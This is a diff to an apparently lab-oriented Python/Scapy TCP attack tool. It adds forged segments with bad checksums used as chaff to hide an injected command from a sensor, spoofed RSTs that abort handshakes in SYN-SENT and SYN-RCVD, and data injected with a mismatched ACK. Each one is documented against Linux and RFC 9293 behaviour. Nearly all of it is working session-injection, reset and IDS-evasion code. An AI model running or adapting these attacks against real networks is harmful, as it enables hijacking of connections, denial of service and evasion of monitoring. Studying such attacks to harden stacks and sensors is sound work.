@@ -165,11 +165,13 @@ class Attacker:
 
     # ------------------------------------------------------------------ forging
     def forge(self, frm, flags, seq, ack, payload=b"", ttl=None, ts=True, win=None,
-              spoof_mac=True, note="", frags=None, tsval=None):
+              spoof_mac=True, note="", frags=None, tsval=None, bad_csum=False):
         """Send one TCP segment as endpoint `frm` ('c' or 's') to the other one. frags:
         send it as IP fragments instead, a list of (offset, length, bytes or None) over
         the TCP segment (None: the segment's own bytes there; see fragments()). tsval:
-        this TSval instead of the extrapolated one (PAWS chaff)."""
+        this TSval instead of the extrapolated one (PAWS chaff). bad_csum: a wrong TCP
+        checksum (the right one with bits flipped: not the offload signature, the
+        pseudo-header sum a NIC would complete), which the receiver drops."""
         a, b = (self.c, self.s) if frm == "c" else (self.s, self.c)
         hops = ttl if ttl is not None else a.ttl
         if ":" in a.ip:
@@ -186,6 +188,9 @@ class Attacker:
         pkt = Ether(src=a.mac if spoof_mac and a.mac else self.own_mac, dst=b.mac) / ip / tcp
         if payload:
             pkt = pkt / Raw(payload)
+        if bad_csum:
+            good = Ether(bytes(pkt))[TCP].chksum
+            pkt[TCP].chksum = good ^ 0x5A5A
         if frags:
             for fr in fragments(bytes(pkt), frags, self.rng.getrandbits(32)):
                 self.sock.send(fr)
@@ -503,7 +508,69 @@ def a_chaff_inject(at):
         at.forge("c", "PA", at.c.nxt, at.s.nxt, line(at.args.payload), note="injected command after chaff")
 
 
-ATTACKS = {"chaff": a_chaff, "chaff_inject": a_chaff_inject, "handshake_data": a_handshake_data, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
+def a_csum_chaff_inject(at):
+    """Bad-checksum chaff around an injection: a copy with a wrong TCP checksum over
+    the injection's range carrying the real client's next commands (the insertion
+    evasion: a sensor that took it as the first version would see the client's later
+    bytes agree), the injected command 5 ms later, and 5 ms after it a second
+    bad-checksum copy right behind the injection carrying more of the client's
+    commands (a fake continuation). The server's kernel drops both chaff copies."""
+    if not _after_exchange(at, at.args.after):
+        return
+    data = line(at.args.payload)
+    real = b"".join(b"cmd %03d\n" % i for i in range(at.args.after, at.args.after + 8))
+    seq, ack = at.c.nxt, at.s.nxt
+    at.forge("c", "PA", seq, ack, real[:len(data)], bad_csum=True,
+             note="bad-checksum chaff before the injection")
+    time.sleep(0.005)
+    at.forge("c", "PA", seq, ack, data, note="injected command between bad-checksum chaff")
+    time.sleep(0.005)
+    at.forge("c", "PA", seq + len(data), ack, real[len(data):len(data) + 8], bad_csum=True,
+             note="bad-checksum chaff after the injection")
+
+
+def a_handshake_rst_client(at):
+    """RSTs as the server to the client in SYN-SENT (the scenario holds the real
+    SYN-ACK back): first one without ACK, which Linux drops (RFC 9293 3.10.7.3: in
+    SYN-SENT an RST is acceptable only if its ACK acknowledges the SYN), then an
+    RST-ACK acknowledging the SYN, which the client's kernel takes (connect() fails
+    with ECONNREFUSED). The real SYN-ACK then reaches a client with no socket."""
+    fr = at.wait_for(lambda f: at.from_client(f) and f.flags & SYN and not f.flags & ACK, "SYN")
+    if fr:
+        seq = at.rng.getrandbits(32)
+        at.forge("s", "R", seq, 0, ts=False, note="RST without ACK to SYN-SENT")
+        time.sleep(0.02)
+        at.forge("s", "RA", seq, fr.seq + 1, ts=False, note="RST-ACK acknowledging the SYN")
+        at.follow()
+
+
+def a_handshake_rst_server(at):
+    """An RST as the client to the server in SYN-RCVD, at the server's rcv_nxt (the
+    client's ISN + 1), on its SYN-ACK (the scenario holds the client's ACK back).
+    Linux's request socket takes an in-window RST and drops the half-open connection;
+    the real client's ACK / data then reach the listener, which resets them."""
+    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
+    if fr:
+        at.forge("c", "R", fr.ack, 0, ts=False, note="RST to SYN-RCVD at its rcv_nxt")
+        at.follow()
+
+
+def a_handshake_bad_ack(at):
+    """Data as the client to the server in SYN-RCVD, at the right sequence number but
+    with an ACK that does not acknowledge the server's SYN-ACK (its ISN + 1 + 100000),
+    on its SYN-ACK (the scenario holds the client's ACK back). Linux's request socket
+    hands it to the listener, which resets it; the half-open connection stays, and the
+    real client completes it."""
+    fr = at.wait_for(lambda f: at.from_server(f) and f.flags & SYN and f.flags & ACK, "SYN-ACK")
+    if fr:
+        at.forge("c", "PA", fr.ack, fr.seq + 1 + 100000, line(at.args.payload), ts=False,
+                 note="data to SYN-RCVD, ACK not of its SYN-ACK")
+        at.follow()
+
+
+ATTACKS = {"csum_chaff_inject": a_csum_chaff_inject, "handshake_bad_ack": a_handshake_bad_ack, "handshake_rst_client": a_handshake_rst_client,
+           "handshake_rst_server": a_handshake_rst_server,
+           "chaff": a_chaff, "chaff_inject": a_chaff_inject, "handshake_data": a_handshake_data, "rst_blind": a_rst_blind, "rst_exact": a_rst_exact, "inject_data": a_inject_data,
            "inject_data_frag": a_inject_data_frag, "frag_overlap": a_frag_overlap,
            "race_response": a_race_response, "synack_race": a_synack_race,
            "early_desync": a_early_desync, "inject_fin": a_inject_fin, "spray": a_spray,
